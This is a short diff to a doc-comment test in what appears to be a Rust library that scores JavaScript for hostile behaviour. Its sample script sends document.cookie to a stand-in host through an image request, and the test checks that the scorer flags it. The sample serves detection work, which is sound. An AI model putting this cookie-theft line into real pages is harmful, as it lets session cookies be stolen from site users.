@@ -163,8 +163,9 @@ impl Limit {
 ///
 /// let script = "let a = 1;\nnew Image().src = '//c.example/?' + document.cookie;";
 /// let report = Scorer::bundled()?.score(script.as_bytes())?;
-/// let Span { start, end, .. } = report.findings[0].span;
-/// assert!(script[start..end].contains("cookie"));
+/// let found = report.findings.iter().find(|found| found.signal == "cookies-sent").expect("a finding");
+/// let Span { start, end, .. } = found.span;
+/// assert!(script[start..end].contains("document.cookie"));
 /// # }
 /// # Ok::<(), jsintegrity::Error>(())
 /// ```
